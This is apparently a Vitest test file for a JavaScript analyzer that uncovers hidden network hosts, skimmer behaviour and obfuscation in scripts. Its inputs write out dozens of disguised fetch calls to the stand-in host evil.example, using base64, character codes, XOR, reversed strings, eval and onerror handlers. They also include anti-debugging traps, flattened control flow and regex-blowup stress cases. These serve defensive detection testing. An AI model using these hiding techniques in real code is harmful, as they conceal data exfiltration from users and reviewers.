import { describe, expect, test } from 'vitest';
import { isDisguised } from '../src/code/understand/gauge.ts';
import { TRAITS } from '../src/code/understand/traits.ts';
import type { Parsed } from '../src/code/understand/types.ts';
import { understand } from '../src/code/understand/understand.ts';
import { disguised, HONEST, SKIMMER } from './code-samples.ts';

const ids = (code: string) => understand(code).traits.map(({ id }) => id);
const BROKEN = '\n)(';

describe('the table of what scripts do', () => {
  test.each(TRAITS)('$id: $example', ({ id, kind, example }) => {
    const parsed = understand(example);
    expect(parsed.kind).toBe('parsed');
    expect(parsed.traits.find((trait) => trait.id === id)).toMatchObject({ kind });
    const scanned = understand(example + BROKEN);
    expect(scanned).toMatchObject({ kind: 'scanned', reason: 'syntax' });
    expect(scanned.traits.find((trait) => trait.id === id)).toMatchObject({ kind });
  });
  test('ids are told apart', () => {
    expect(new Set(TRAITS.map(({ id }) => id)).size).toBe(TRAITS.length);
  });
});

describe('hosts, however they are written', () => {
  test.each([
    ['plain', `fetch('https://evil.example/x')`],
    ['without a scheme', `fetch('//evil.example')`],
    ['as a browser reads it', String.raw`fetch('https:\\evil.example')`],
    ['escapes', String.raw`fetch('\x68ttps://\u0065vil.example')`],
    ['joined', `fetch('htt' + 'ps://ev' + ('il.ex' + 'ample') + '/?' + d)`],
    ['a template', 'const h = `evil.example`; fetch(`https://${h}/${d}`)'],
    ['a list', `fetch(['https:', '', 'evil.example', 'x'].join('/'))`],
    ['a list that is read', `var l = ['https://', 'evil', '.example'], u = l[0] + l[1] + l[0x3 - 1]; f(u)`],
    ['base64', `fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'))`],
    ['base64 of a window', `var w = window; fetch(w['at' + 'ob']('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'))`],
    [
      'character codes',
      `f(String.fromCharCode(47, 47, 101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101))`,
    ],
    [
      'a list of codes',
      `f(String.fromCharCode.apply(null, [47, 47, 101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101]))`,
    ],
    [
      'shifted codes',
      `f([48, 48, 102, 119, 106, 109, 47, 102, 121, 98, 110, 113, 109, 102].map(function (c) { return String.fromCharCode(c - 1) }).join(''))`,
    ],
    [
      'xored codes',
      `f([46, 46, 100, 119, 104, 109, 47, 100, 121, 96, 108, 113, 109, 100].map((c) => String.fromCharCode(c ^ 1)).join(''))`,
    ],
    ['backwards', `f('elpmaxe.live//:sptth'.split('').reverse().join(''))`],
    [
      'with letters too many',
      `f('hxttpxs:x//xevixl.example'.replace(/x(?=.)/g, '')), f('hzttpsz://zevil.zexample'.replace(/z/g, ''))`,
    ],
    ['percent', `f(unescape('%2F%2Fevil%2Eexample'))`],
    ['a function that decodes', `function d(s) { return atob(s) } fetch(d('Ly9ldmlsLmV4YW1wbGU='))`],
    ['a table', `var t = { a: '//evil', 'b': '.example' }; fetch(t.a + t['b'])`],
    [
      'bytes',
      `f(new TextDecoder().decode(new Uint8Array([47, 47, 101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101])))`,
    ],
    ['handed in', `(function (w, u) { w.fetch(u + '/x') })(window, '//evil.example')`],
    ['a bare name', `var host = 'evil.example'; f(host)`],
    ['code in a text', `eval("fetch('//evil.example/')")`],
    ['code in code in a text', String.raw`setTimeout("Function('fetch(\\'//evil.example/\\')')()", 9)`],
    ['a handler', `e.setAttribute('onerror', "fetch('//evil.example')")`],
    ['a javascript: address', `location.href = "javascript:fetch('//evil.example')"`],
    ['a comment of broken code', `//evil.example ${BROKEN}`],
    ['broken code', `fetch('//evil' + '.example'${BROKEN}`],
  ])('%s', (_, code) => {
    expect(understand(code).hosts).toContain('evil.example');
  });
  test('ports, numbers and relays are hosts; words with dots and paths are not', () => {
    expect(
      understand(`a('https://10.0.0.1:8443/'); b('stun:relay.evil.test:3478'); c('ws://localhost:9')`).hosts,
    ).toEqual(['10.0.0.1:8443', 'relay.evil.test:3478', 'localhost:9']);
    expect(
      understand(`a('jquery.min.js', 'form.label', '/checkout', './x.css', '// note', 'a/b', 'text/html')`)
        .hosts,
    ).toEqual([]);
  });
  test('an unknown part is a star', () => {
    expect(understand('f(`https://${id}.evil.test/`)').hosts).toEqual(['*.evil.test']);
  });
  test('where data is sent is told apart from what is only named', () => {
    const { hosts, targets } = understand(
      `var u = 'https://a.test/x'; navigator.sendBeacon(u, d); log('see https://b.test/')`,
    );
    expect(hosts).toEqual(['a.test', 'b.test']);
    expect(targets).toEqual(['a.test']);
  });
});

test('a skimmer is told as it is, with places', () => {
  const found = understand(`\n${SKIMMER}`);
  expect(found.traits.map(({ id }) => id).sort()).toEqual(
    ['all-fields', 'base64', 'card-fields', 'image', 'listen', 'source', 'value'].sort(),
  );
  expect(found.traits.find(({ id }) => id === 'listen')).toEqual({
    id: 'listen',
    kind: 'listen',
    what: 'submit',
    count: 1,
    at: { line: 2, column: 0 },
  });
  expect(found.traits.find(({ id }) => id === 'image')?.at).toEqual({ line: 5, column: 28 });
  expect(found.targets).toEqual(['cdn-metrics.evil.test']);
});

describe('names of the browser', () => {
  test('are found through windows, aliases and computed names', () => {
    for (const code of [
      'window.fetch(u)',
      `self['fet' + 'ch'](u)`,
      'var w = window; w.fetch(u)',
      'const f = fetch; f(u)',
      '(function (w) { w.fetch(u) })(this.window || window)',
    ])
      expect(ids(code)).toContain('fetch');
    expect(ids('(0, window["ev" + "al"])(s)')).toContain('eval');
  });
  test('are not found in names of others and of its own', () => {
    expect(ids('function fetch() {} fetch(u)')).not.toContain('fetch');
    expect(ids('api.fetch(u)')).not.toContain('fetch');
    expect(ids('if (typeof fetch === "undefined") f()')).not.toContain('fetch');
    expect(ids('var s = { eval: 1 }; s.eval')).not.toContain('eval');
  });
  test('hooks: prototypes and functions of the browser, not methods of its own', () => {
    for (const code of [
      'window.fetch = f',
      'fetch = f',
      'XMLHttpRequest.prototype.send = f',
      'JSON.stringify = f',
      `Object.defineProperty(n, 'sendBeacon', d)`,
    ])
      expect(ids(code)).toContain('hook');
    expect(ids('Client.prototype.x.send = f; this.fetch = f')).not.toContain('hook');
  });
});

describe('disguise', () => {
  const measure = (code: string) => understand(code).obfuscation;
  test('honest code is not disguised', () => {
    for (const code of [...HONEST, SKIMMER]) expect(isDisguised(measure(code))).toBe(false);
  });
  test('a list of texts that is turned round, names of numbers', () => {
    const packed = disguised(SKIMMER);
    expect(measure(packed)).toMatchObject({ rotations: 2 });
    expect(measure(packed).hexNames).toBeGreaterThan(0.5);
    expect(isDisguised(measure(packed))).toBe(true);
    expect(understand(packed).hosts).toEqual([]);
  });
  test.each([
    [
      'flattened',
      `var o = '1|0'.split('|'), i = 0; while (!![]) { switch (o[i++]) { case '0': f(); continue; case '1': g(); continue } break }`,
      { flattened: 1 },
    ],
    [
      'traps',
      `setInterval(function () { debugger }, 9); (function () {}).constructor('debu' + 'gger')()`,
      { traps: 2, nested: 1 },
    ],
    ['own text', 'var f = function () { return f.toString().search(x) }', { selfText: 1 }],
    ['escapes', String.raw`f('\x68\x65\x6c\x6c\x6f')`, { escaped: 1 }],
    ['base64', `f('${'QUJD'.repeat(200)}')`, { base64: 800 }],
    ['a list', `var l = [${"'abc',".repeat(20)}]`, { stringLists: 1 }],
  ])('%s', (_, code, found) => {
    expect(measure(code)).toMatchObject(found);
  });
});

describe('hostile code never throws and never gives nothing', () => {
  const evil = `fetch('//evil.example');`;
  test.each([
    ['nested brackets', `${evil}${'('.repeat(100_000)}`],
    ['nested functions', `${evil}${'(function(){'.repeat(20_000)}${'})()'.repeat(20_000)}`],
    ['a long sum', `${evil}x=a${'+a'.repeat(60_000)}`],
    ['a text without end', `${evil}'${"\\'".repeat(300_000)}`],
    ['a comment without end', `${evil}${'/*'.repeat(300_000)}`],
    ['templates without end', `${evil}${'`${'.repeat(100_000)}`],
    ['one name of 3 MB', `${evil}${'a'.repeat(3_000_000)} )`],
    ['3 MB of nothing', `${' '.repeat(3_000_000)}${evil})`],
    [
      'patterns',
      `${evil}/(a+)+$/.test('${'a'.repeat(50_000)}');'${'a'.repeat(9_000)}'.replace(/(a|a)+$/, '')`,
    ],
    [
      'texts that grow',
      `${evil}var a='${'x'.repeat(100_000)}';${Array.from({ length: 200 }, () => 'a=a+a;b(a+a+a);').join('')}`,
    ],
    ['functions that call themselves', `${evil}function d(s){return d(s+s)}f(d('x'));var v=v+v;f(v)`],
    ['lone surrogates', `${evil}'\ud800'.x`],
    ['HTML', `<!doctype html><script>${evil}</script>`],
    ['code that runs code, in circles', `${evil}eval("eval('eval(1)')");${'eval("f(1)");'.repeat(2000)}`],
  ])('%s', (_, code) => {
    expect(understand(code).hosts).toContain('evil.example');
  });
  test.each([
    ['', 'parsed'],
    ['\0', 'scanned'],
    ['<!-- x', 'parsed'],
    ['#!/bin/x', 'parsed'],
    ['return 1', 'parsed'],
    ['import x from "y"', 'parsed'],
    ['await f()', 'parsed'],
  ])('%j', (code, kind) => {
    expect(understand(code).kind).toBe(kind);
  });
  test('a flood of hosts, listeners and addresses is bounded', () => {
    const flood = Array.from(
      { length: 3000 },
      (_, i) => `e.addEventListener('x${i}',f);g('https://h${i}.evil.test/${'p'.repeat(999)}')`,
    ).join(';');
    const found = understand(flood);
    expect(found.hosts).toHaveLength(200);
    expect(found.traits.length).toBeLessThanOrEqual(300);
    expect(JSON.stringify(found).length).toBeLessThan(150_000);
  });
});

test('what is only scanned has no fingerprints, so that nothing can be called the same', () => {
  expect(Object.keys(understand('a(1)', 'time'))).not.toContain('literal');
  expect((understand('a(1)') as Parsed).literal).toMatch(/^sha256:[0-9a-f]{64}$/);
});
